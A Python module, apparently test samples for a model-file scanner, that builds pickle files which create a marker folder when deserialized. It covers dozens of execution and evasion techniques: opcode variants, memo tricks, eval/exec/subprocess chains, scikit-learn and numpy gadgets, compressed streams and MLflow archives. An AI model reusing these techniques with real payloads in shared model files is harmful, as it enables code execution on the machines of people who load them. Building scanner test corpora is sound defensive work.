"""Model files that would do something when loaded: here, make a folder. One technique each, from one opcode to whole files.

`live` are those that really make the folder when Python's own pickle loads them: they prove that the samples bite.
"""

import bz2
import gzip
import io
import lzma
import pickle
import struct
import zipfile
import zlib

STOP = b"."
REDUCE = b"R"


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def short(value: str) -> bytes:
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data


def name(module: str, attribute: str) -> bytes:
    return f"c{module}\n{attribute}\n".encode()


def tuple_of(*parts: bytes) -> bytes:
    return b"(" + b"".join(parts) + b"t"


def calling(module: str, attribute: str, *args: bytes) -> bytes:
    return b"\x80\x02" + name(module, attribute) + tuple_of(*args) + REDUCE + STOP


def live(marker: str) -> dict[str, bytes]:
    """Files that make the folder `marker` when `pickle.loads` gets them."""
    path = text(marker)
    code = f"__import__('os').mkdir({marker!r})"
    made = tuple_of(path) + REDUCE
    mkdir = name("posix", "mkdir")
    partial = name("functools", "partial") + tuple_of(mkdir, path) + REDUCE
    getter = name("builtins", "getattr") + tuple_of(name("os", "path"), text("os")) + REDUCE
    return {
        "reduce": b"\x80\x02" + mkdir + made + STOP,
        "protocol 0 text": f"cposix\nmkdir\n(V{marker}\ntR.".encode(),
        "protocol 0 quoted": f"cposix\nmkdir\n(S'{marker}'\ntR.".encode(),
        "inst": f"(V{marker}\niposix\nmkdir\n.".encode(),
        "obj": b"\x80\x02(" + mkdir + path + b"o" + STOP,
        "stack global": b"\x80\x04" + short("posix") + short("mkdir") + b"\x93" + made + STOP,
        "stack global, long text": b"\x80\x04"
        + text("posix")
        + text("mkdir")
        + b"\x93"
        + made
        + STOP,
        "stack global, python 2 text": b"\x80\x04U\x05posixU\x05mkdir\x93" + made + STOP,
        "stack global, escapes": b"\x80\x04V\\u0070osix\nV\\u006dkdir\n\x93" + made + STOP,
        "names from the memo": (
            b"\x80\x04"
            + short("mkdir")
            + b"\x94"
            + short("posix")
            + b"\x94"
            + b"00h\x01h\x00\x93"
            + made
            + STOP
        ),
        "memo overwritten": b"\x80\x04"
        + short("ndarray")
        + b"q\x00"
        + short("posix")
        + b"q\x00"
        + b"00h\x00"
        + short("mkdir")
        + b"\x93"
        + made
        + STOP,
        "in a frame": b"\x80\x04\x95"
        + struct.pack("<Q", len(mkdir + made) + 1)
        + mkdir
        + made
        + STOP,
        "result thrown away": b"\x80\x02" + mkdir + made + b"0N" + STOP,
        "result in a mark thrown away": b"\x80\x02(" + mkdir + made + b"1N" + STOP,
        "in a list": b"\x80\x02](" + mkdir + made + b"e" + STOP,
        "as a key": b"\x80\x02}(" + mkdir + made + b"K\x01u" + STOP,
        "duplicated": b"\x80\x02" + mkdir + path + b"\x85" + b"R2" + b"0" + STOP,
        "os": calling("os", "mkdir", path),
        "os.makedirs": calling("os", "makedirs", path),
        "pathlib by attribute": b"\x80\x04"
        + short("pathlib")
        + short("Path.mkdir")
        + b"\x93"
        + tuple_of(name("pathlib", "Path") + made)
        + REDUCE
        + STOP,
        "python 2 builtin": calling("__builtin__", "eval", text(code)),
        "eval": calling("builtins", "eval", text(code)),
        "exec": calling("builtins", "exec", text(code)),
        "getattr chain": b"\x80\x02"
        + name("builtins", "getattr")
        + tuple_of(getter, text("mkdir"))
        + REDUCE
        + made
        + STOP,
        "import chain": b"\x80\x02"
        + name("builtins", "getattr")
        + tuple_of(name("builtins", "__import__") + tuple_of(text("os")) + REDUCE, text("mkdir"))
        + REDUCE
        + made
        + STOP,
        "importlib chain": b"\x80\x02"
        + name("builtins", "getattr")
        + tuple_of(
            name("importlib", "import_module") + tuple_of(text("os")) + REDUCE, text("mkdir")
        )
        + REDUCE
        + made
        + STOP,
        "subprocess": calling("subprocess", "call", b"](" + text("mkdir") + path + b"e"),
        "timeit": calling(
            "timeit", "timeit", text(code), text("pass"), name("time", "perf_counter"), b"K\x01"
        ),
        "profile": calling("cProfile", "run", text(code + " if 1 else 0")),
        "partial called": b"\x80\x02" + partial + b")" + REDUCE + STOP,
        "methodcaller": b"\x80\x02"
        + name("operator", "methodcaller")
        + tuple_of(text("mkdir"), path)
        + REDUCE
        + tuple_of(
            name("os", "path")
            + b"0"
            + name("builtins", "__import__")
            + tuple_of(text("os"))
            + REDUCE
        )
        + REDUCE
        + STOP,
        "map": b"\x80\x02"
        + name("builtins", "list")
        + tuple_of(name("builtins", "map") + tuple_of(mkdir, b"](" + path + b"e") + REDUCE)
        + REDUCE
        + STOP,
        "reduce function": calling("functools", "reduce", mkdir, b"](" + path + b"M\xff\x01e"),
        "pickle in a pickle": calling(
            "pickle",
            "loads",
            b"C" + bytes([len(inner := b"cposix\nmkdir\n(" + path + b"tR.")]) + inner,
        ),
        "two in one": b"\x80\x02" + mkdir + made + STOP + pickle.dumps([1]),
        "no stop": b"\x80\x02" + mkdir + made,
        "broken after": b"\x80\x02" + mkdir + made + b"\xff",
        "python code by cloudpickle's parts": calling(
            "types",
            "FunctionType",
            name("builtins", "compile") + tuple_of(text(code), text("x"), text("eval")) + REDUCE,
            b"}",
        )[:-1]
        + b")"
        + REDUCE
        + STOP,
    }


def silent(marker: str) -> dict[str, bytes]:
    """Files that bite later, elsewhere, or only in other loaders: in joblib, in the container, or on another system."""
    path = text(marker)
    evil = b"\x80\x02" + name("posix", "mkdir") + tuple_of(path) + REDUCE + STOP
    mkdir = name("posix", "mkdir")
    step = name("sklearn.preprocessing._function_transformer", "FunctionTransformer") + b")\x81"
    array = name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81"
    dtype = name("numpy", "dtype") + tuple_of(text("O8"), b"I00\n", b"I01\n") + REDUCE
    state = (
        b"}("
        + text("subclass")
        + name("numpy", "ndarray")
        + text("shape")
        + b"K\x01\x85"
        + text("order")
        + text("C")
        + text("dtype")
        + dtype
        + text("allow_mmap")
        + b"I00\n"
        + b"u"
    )
    folder = io.BytesIO()
    with zipfile.ZipFile(folder, "w") as archive:
        archive.writestr(
            "m/MLmodel",
            "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n  sklearn:\n"
            "    pickled_model: model.pkl\n    serialization_format: pickle\n",
        )
        archive.writestr("m/model.pkl", evil)
    return {
        "junk before": b"\x00\x00" + evil,
        "second pickle after a good one": pickle.dumps([1]) + evil,
        "extension registry": b"\x80\x02\x82\x01" + tuple_of(path) + REDUCE + STOP,
        "extension registry, wide": b"\x80\x02\x84\x01\x00\x00\x00"
        + tuple_of(path)
        + REDUCE
        + STOP,
        "persistent id": b"Pmkdir\n.",
        "persistent id, binary": b"\x80\x02" + path + b"Q" + STOP,
        "outside buffer": b"\x80\x05\x97" + STOP,
        "name not a text": b"\x80\x04"
        b"K\x01" + short("mkdir") + b"\x93" + tuple_of(path) + REDUCE + STOP,
        "function as a parameter": b"\x80\x02"
        + step
        + b"}("
        + text("func")
        + mkdir
        + b"u"
        + b"b"
        + STOP,
        "object array": b"\x80\x02" + array + state + b"b" + evil + STOP,
        "class changed": b"\x80\x02"
        + name("sklearn.base", "BaseEstimator")
        + b"}("
        + text("fit")
        + mkdir
        + b"ub"
        + STOP,
        "class swapped": b"\x80\x02"
        + step
        + b"N}("
        + text("__class__")
        + name("sklearn.svm._classes", "SVC")
        + b"u\x86b"
        + STOP,
        "item set in a module": b"\x80\x02"
        + name("numpy", "float64")
        + text("x")
        + mkdir
        + b"s"
        + STOP,
        "appended to a name": b"\x80\x02" + name("numpy", "float64") + mkdir + b"a" + STOP,
        "foreign name in scikit-learn": b"\x80\x02"
        + name("sklearn.utils._testing", "TempMemmap")
        + tuple_of(path)
        + REDUCE
        + STOP,
        "module inside scikit-learn": b"\x80\x02" + name("sklearn.base", "warnings") + STOP,
        "dotted name": b"\x80\x04"
        + short("sklearn.svm._classes")
        + short("SVC.__class__.__base__")
        + b"\x93"
        + STOP,
        "function called": b"\x80\x02" + name("numpy", "exp") + tuple_of(path) + REDUCE + STOP,
        "datasets": calling("sklearn.datasets._base", "load_files", path),
        "ufunc by name": calling("numpy.core", "_ufunc_reconstruct", text("os"), text("mkdir")),
        "distribution": calling("scipy.stats._distn_infrastructure", "rv_continuous", path),
        "numpy.load": calling("numpy", "load", path),
        "joblib.load": calling("joblib.numpy_pickle", "load", path),
        "torch": calling("torch.serialization", "load", path),
        "pandas": calling("pandas.io.pickle", "read_pickle", path),
        "somebody's module": calling("their_module", "Model", path),
        "cloudpickle builder": calling("cloudpickle.cloudpickle", "_make_function", path),
        "odd base class": b"\x80\x02"
        + name("copyreg", "_reconstructor")
        + tuple_of(name("sklearn.svm._classes", "SVC"), name("numpy", "ndarray"), path)
        + REDUCE
        + STOP,
        "zlib": zlib.compress(evil),
        "gzip": gzip.compress(evil),
        "bz2": bz2.compress(evil),
        "xz": lzma.compress(evil),
        "lzma": lzma.compress(evil, lzma.FORMAT_ALONE),
        "gzip, second stream": gzip.compress(pickle.dumps([1])) + gzip.compress(evil),
        "mlflow folder": folder.getvalue(),
        "pickle, then zip": pickle.dumps([1]) + folder.getvalue(),
    }
